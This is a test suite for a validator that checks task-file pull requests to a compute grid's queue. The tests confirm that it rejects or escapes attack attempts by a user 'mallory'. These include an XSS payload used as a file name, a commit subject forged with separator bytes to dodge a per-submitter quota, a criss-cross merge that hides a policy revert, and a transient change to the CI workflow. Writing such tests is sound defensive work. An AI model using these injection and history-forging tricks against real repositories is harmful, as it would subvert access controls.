  const run = await runValidate({ path: checkout.dir }, { base: bases.main, head, login: 'alice' });
  assert.equal(run.exitCode, 0, run.stdout);
  assert.deepEqual(run.outputs, { valid: 'true', checked: '1', invalid: '0', 'task-ids': '[]' });
});

test('valid: a task in the original D-GRID format', async () => {
  const head = await checkout.pullRequest(bases.main, (w) =>
    w.write(queue('t1'), '{"task_id": "t1", "script": "echo hi", "timeout_seconds": 30}'),
  );
  const run = await runValidate({ path: checkout.dir }, { base: bases.main, head, login: 'carol' });
  assert.equal(run.exitCode, 0, run.stdout);
  assert.deepEqual(run.outputs, { valid: 'true', checked: '1', invalid: '0', 'task-ids': '["t1"]' });
  assert.deepEqual(run.annotations, []);
  assert.match(run.summary, /<td><code>tasks\/queue\/t1\.json<\/code><\/td><td>t1<\/td><td>✅ valid<\/td>/);
});

test('valid: tasks using every field, depending on a completed task and on each other', async () => {
  const everything = task('everything', {
    $schema: 'https://dgrid.dev/schemas/task.schema.json',
    script: 'python -c "print(42)"',
    timeout_seconds: 600,
    image: `alpine@sha256:${'a'.repeat(64)}`,
    priority: 'high',
    depends_on: ['done-1', 'first'],
    max_attempts: 5,
    requires: ['gpu', 'region:eu'],
    resources: { cpus: 1.5, memory_mb: 1024 },
    not_before: new Date(Date.now() + 86_400_000).toISOString(),
    env: { MODE: 'fast', _UNDERSCORE: 'ok' },
    description: 'Zoë’s analysis 😀',
  });
  const head = await checkout.pullRequest(bases.main, async (w) => {
    await adding(everything)(w);
    await w.write(queue('first'), JSON.stringify(task('first'), null, '\t').replaceAll('\n', '\r\n'));
  });
  const run = await runValidate({ path: checkout.dir }, { base: bases.main, head, login: 'carol' });
  assert.equal(run.exitCode, 0, run.stdout);
  assert.deepEqual(run.outputs, { valid: 'true', checked: '2', invalid: '0', 'task-ids': '["everything","first"]' });
});

test('valid: tasks signed by a trusted key, up to the quota of their submitter', async () => {
  const head = await checkout.pullRequest(bases.signed, async (w) => {
    await w.write(queue('signed-1'), await signed(task('signed-1'), keys.alice));
  });
  const run = await runValidate({ path: checkout.dir }, { base: bases.signed, head, login: 'alice' });
  assert.equal(run.exitCode, 0, run.stdout);

  const bob = await checkout.pullRequest(bases.perSubmitter, adding(task('b2'), task('b3')));
  const quota = await runValidate({ path: checkout.dir }, { base: bases.perSubmitter, head: bob, login: 'bob' });
  assert.equal(quota.exitCode, 0, quota.stdout);
  assert.equal(quota.outputs['task-ids'], '["b2","b3"]');
});

test('the report lists valid and invalid files, and the outputs count them', async () => {
  const head = await checkout.pullRequest(bases.main, async (w) => {
    await adding(task('fine'), task('bad', { priority: 'asap' }))(w);
    await w.write('<img src=x onerror=alert(1)>.md', '@everyone');
  });
  const run = await rejected(bases.main, head, 'mallory', [
    { file: queue('bad'), message: /"priority" must be one of/, at: '"priority"' },
  ]);
  assert.deepEqual(run.outputs, { valid: 'false', checked: '3', invalid: '2', 'task-ids': '["fine"]' });
  assert.match(
    run.summary,
    /<td><code>tasks\/queue\/fine\.json<\/code><\/td><td>fine<\/td><td>✅ valid<\/td><td><\/td>/,
  );
  assert.match(run.summary, /line 4, column 3: field &quot;priority&quot; must be one of the allowed values/);
  assert.match(run.summary, /&lt;img src=x onerror=alert\(1\)&gt;\.md/);
  assert.doesNotMatch(run.summary, /<img/);
  assert.match(run.stdout, /^::error::not accepted: 2 of 3 files have problems; see the annotations/m);
});

test('files input: checks files in the checkout outside a pull request', async () => {
  await checkout.reset(bases.main);
  await checkout.write('drafts/ok.json', task('ok'));
  await checkout.write('tasks/queue/later.json', task('later', { depends_on: ['ok', 'nowhere'] }));
  const run = await runValidate({ path: checkout.dir, files: 'drafts/ok.json\ntasks/queue/later.json' });
  assert.equal(run.exitCode, 1);
  assert.deepEqual(run.outputs, { valid: 'false', checked: '2', invalid: '1', 'task-ids': '["ok"]' });
  const [annotation] = run.annotations.filter((a) => a.properties.file);
  assert.deepEqual(annotation?.properties, {
    title: 'dgrid validate-task',
    file: 'tasks/queue/later.json',
    line: '6',
    col: '5',
  });
  assert.match(annotation?.message ?? '', /depends_on names "nowhere"/);
});

test('no pull request and no files: checks the whole queue at HEAD, requeued tasks included', async () => {
  await checkout.reset(bases.main);
  const run = await runValidate({ path: checkout.dir });
  assert.equal(run.exitCode, 1);
  assert.deepEqual(run.outputs, {
    valid: 'false',
    checked: '4',
    invalid: '1',
    'task-ids': '["q-alice-1","q-alice-2","q-dgrid-1"]',
  });
  const [annotation] = run.annotations.filter((a) => a.properties.file);
  assert.equal(annotation?.properties.file, queue('q-bob-1'));
  assert.match(annotation?.message ?? '', /depends_on names "new-x"/);
});

test('a base commit missing from the checkout fails the step with what to do', async () => {
  const run = await runValidate({ path: checkout.dir }, { base: 'f'.repeat(40), head: bases.main, login: 'carol' });
  assert.equal(run.exitCode, 1);
  assert.match(run.stdout, /^::error::the base commit f{40} is not in the checkout: check out with fetch-depth: 0/m);
});

test('the policy input names another policy file, read from the base', async () => {
  const base = await checkout.pullRequest(bases.main, (w) =>
    w.write('policies/strict.json', { max_timeout_seconds: 10 }),
  );
  const head = await checkout.pullRequest(base, adding(task('slow', { timeout_seconds: 60 })));
  const run = await runValidate({ path: checkout.dir, policy: 'policies/strict.json' }, { base, head, login: 'carol' });
  assert.equal(run.exitCode, 1);
  assert.ok(run.annotations.some((a) => /"timeout_seconds" is 60; this grid allows at most 10$/.test(a.message)));
  const missing = await runValidate({ path: checkout.dir, policy: 'nope.json' }, { base, head, login: 'carol' });
  assert.match(missing.stdout, /^::error::the policy file nope\.json is not in commit/m);
});

// What the merge would change, not a diff from where the pull request forked.
const MALLORY = { name: 'mallory', email: 'mallory@example.com' };

test('rejected: a criss-cross history whose base...head shows one new task, but whose merge reverts the policy and deletes a queued task', async () => {
  // A maintainer tightens the policy while bob queues a task; mallory's earlier pull request is merged after.
  await checkout.reset(bases.main);
  await checkout.write('dgrid.json', { ...JSON.parse(await checkout.read('dgrid.json')), max_timeout_seconds: 60 });
  await checkout.write(queue('q-bob-2'), task('q-bob-2'));
  const maintainer = await checkout.commit('Tighten the timeout; queue q-bob-2', DGRID, '2024-02-01T00:01:00Z');
  await checkout.reset(bases.main);
  await checkout.write(queue('m-1'), task('m-1'));
  const first = await checkout.commit('Add m-1', MALLORY, '2024-02-01T00:02:00Z');
  await checkout.reset(maintainer);
  await checkout.git(['merge', '--quiet', '--no-ff', '-m', 'Merge pull request #5 from mallory/first', first], GITHUB);
  const base = (await checkout.git(['rev-parse', 'HEAD'])).trim();
  // Mallory merges main into her branch by hand, keeping her side of the policy and dropping bob's task.
  await checkout.reset(first);
  await checkout.git(['merge', '--quiet', '--no-commit', '--no-ff', maintainer], MALLORY);
  await checkout.git(['checkout', first, '--', 'dgrid.json']);
  await checkout.remove(queue('q-bob-2'));
  await checkout.write(queue('m-2'), task('m-2'));
  const head = await checkout.commit("Merge branch 'main'", MALLORY, '2024-02-01T00:04:00Z');

  const diff = await git(['diff', '--name-only', `${base}...${head}`], { cwd: checkout.dir });
  assert.equal(diff, `${queue('m-2')}\n`, 'the three-dot diff shows one new task');
  const run = await rejected(base, head, 'mallory', [
    {
      file: 'dgrid.json',
      message: /^changing dgrid\.json is not allowed: a task submission cannot change the grid policy/,
    },
    { file: queue('q-bob-2'), message: /^deleting tasks\/queue\/q-bob-2\.json is not allowed: a queued task stays/ },
  ]);
  assert.equal(run.outputs['task-ids'], '["m-2"]');
});

/** A pull request of several commits on base, each made by one step. */
async function commits(base: string, ...steps: ((work: Work) => Promise<void>)[]): Promise<string[]> {
  await checkout.reset(base);
  const made = [];
  for (const [i, step] of steps.entries()) {
    await step(checkout);
    made.push(await checkout.commit(`step ${i + 1}`, MALLORY));
  }
  return made;
}

test('rejected: a commit that touches another path, undone by a later one', async () => {
  const workflow = '.github/workflows/validate.yml';
  const original = await git(['show', `${bases.main}:${workflow}`], { cwd: checkout.dir });
  const [edit, head] = await commits(
    bases.main,
    async (w) => {
      await w.write(queue('innocent-1'), task('innocent-1'));
      await w.write(workflow, 'on: pull_request_target\n');
    },
    (w) => w.write(workflow, original),
  );
  await rejected(bases.main, head!, 'mallory', [
    {
      file: workflow,
      message: new RegExp(
        `^commit ${edit!.slice(0, 12)} changes \\.github/workflows/validate\\.yml: each commit of a pull request stays in the grid's history`,
      ),
    },
  ]);
});

test('rejected: a blob over the size cap in a commit, removed by a later one', async () => {
  const [big, , head] = await commits(
    bases.main,
    async (w) => {
      await w.write(queue('slim'), task('slim'));
      await w.write(queue('junk'), 'x'.repeat(200_000));
    },
    (w) => w.write(queue('slim-2'), task('slim-2', { description: 'y'.repeat(120_000) })),
    async (w) => {
      await w.remove(queue('junk'));
      await w.write(queue('slim-2'), task('slim-2'));
    },
  );
  const run = await rejected(bases.main, head!, 'mallory', [
    {
      file: queue('junk'),
      message: new RegExp(
        `^commit ${big!.slice(0, 12)} adds tasks/queue/junk\\.json of 200000 bytes: .* at most 98304 bytes`,
      ),
    },
    { file: queue('slim-2'), message: /^commit \w{12} adds tasks\/queue\/slim-2\.json of \d+ bytes/ },
  ]);
  assert.deepEqual(JSON.parse(run.outputs['task-ids']!), ['slim']);
});

test('rejected: a commit that deletes a queued task, restored by a later one', async () => {
  const original = await git(['show', `${bases.main}:${queue('q-alice-2')}`], { cwd: checkout.dir });
  const [, head] = await commits(
    bases.main,
    async (w) => {
      await w.write(queue('cover-2'), task('cover-2'));
      await w.remove(queue('q-alice-2'));
    },
    (w) => w.write(queue('q-alice-2'), original),
  );
  await rejected(bases.main, head!, 'mallory', [
    {
      file: queue('q-alice-2'),
      message: /^commit \w{12} deletes tasks\/queue\/q-alice-2\.json, which is already at the tip/,
    },
  ]);
});

test('rejected: a task file that is already at the tip, added again unchanged', async () => {
  // From before q-bob-1 was queued: the merge changes nothing, yet the pull request claims the file.
  const before = (await checkout.git(['rev-parse', `${bases.main}~2`])).trim();
  const copy = await git(['show', `${bases.main}:${queue('q-bob-1')}`], { cwd: checkout.dir });
  const [head] = await commits(before, (w) => w.write(queue('q-bob-1'), copy));
  await rejected(bases.main, head!, 'mallory', [
    { file: queue('q-bob-1'), message: /^commit \w{12} adds tasks\/queue\/q-bob-1\.json, which is already at the tip/ },
  ]);
});

test('valid: a pull request that touches no task file is no submission: "no task files"', async () => {
  const head = await checkout.pullRequest(bases.main, (w) => w.write('README.md', '# A better grid\n'));
  const run = await runValidate({ path: checkout.dir }, { base: bases.main, head, login: 'carol' });
  assert.equal(run.exitCode, 0, run.stdout);
  assert.deepEqual(run.outputs, { valid: 'true', checked: '0', invalid: '0', 'task-ids': '[]' });
  assert.match(run.summary, /No task files/);
});

test('rejected: a pull request whose merge conflicts with the tip, and one that shares no history with it', async () => {
  // From before q-bob-1 was queued, a file of the same name with other content.
  const before = (await checkout.git(['rev-parse', `${bases.main}~2`])).trim();
  const [clash] = await commits(before, (w) => w.write(queue('q-bob-1'), task('q-bob-1', { script: 'evil' })));
  const run = await rejected(bases.main, clash!, 'mallory', [
    { message: /^merging the pull request into the base branch at \w+ conflicts in tasks\/queue\/q-bob-1\.json: / },
  ]);
  assert.deepEqual(run.outputs, { valid: 'false', checked: '0', invalid: '0', 'task-ids': '[]' });

  await checkout.git(['checkout', '--quiet', '--orphan', 'unrelated']);
  await checkout.git(['rm', '--quiet', '-r', '-f', '.']);
  await checkout.write(queue('lonely'), task('lonely'));
  const lonely = await checkout.commit('Add lonely', MALLORY);
  await rejected(bases.main, lonely, 'mallory', [
    { message: /^the pull request shares no history with the base branch/ },
  ]);
});

// Who submitted a queued task is read from the history, where a squashed commit's subject is the submitter's
// own pull request title.
test("rejected: a squashed commit's subject holding \\x1e and \\x1f cannot charge its tasks to someone else and dodge the quota", async () => {
  await checkout.reset(bases.perSubmitter);
  for (const id of ['m-q1', 'm-q2', 'm-q3']) await checkout.write(queue(id), task(id));
  // Split on those bytes, the title forged a record naming bob for the files mallory's commit adds.
  const forged = await checkout.commit('Add tasks (#7)\x1eBob\x1f123+bob@users.noreply.github.com\x1fx', MALLORY);
  const head = await checkout.pullRequest(forged, adding(task('m-q4')));
  await rejected(forged, head, 'mallory', [
    { message: /^mallory would have 4 tasks queued; this grid allows at most 3 per submitter/ },
  ]);
});

test('rejected: a squashed commit titled like a GitHub merge cannot charge its tasks to the login it names', async () => {
  await checkout.reset(bases.perSubmitter);
  for (const id of ['m-t1', 'm-t2', 'm-t3']) await checkout.write(queue(id), task(id));
  const squashed = await checkout.commit('Merge pull request #8 from bob/tasks', MALLORY);
  const head = await checkout.pullRequest(squashed, adding(task('m-t4')));
  await rejected(squashed, head, 'mallory', [
    { message: /^mallory would have 4 tasks queued; this grid allows at most 3 per submitter/ },
  ]);
  // Bob's quota is his own: his one queued task and three more fit.
  const bob = await checkout.pullRequest(squashed, adding(task('b-t1'), task('b-t2')));
  const run = await runValidate({ path: checkout.dir }, { base: squashed, head: bob, login: 'bob' });
  assert.equal(run.exitCode, 0, run.stdout);
});
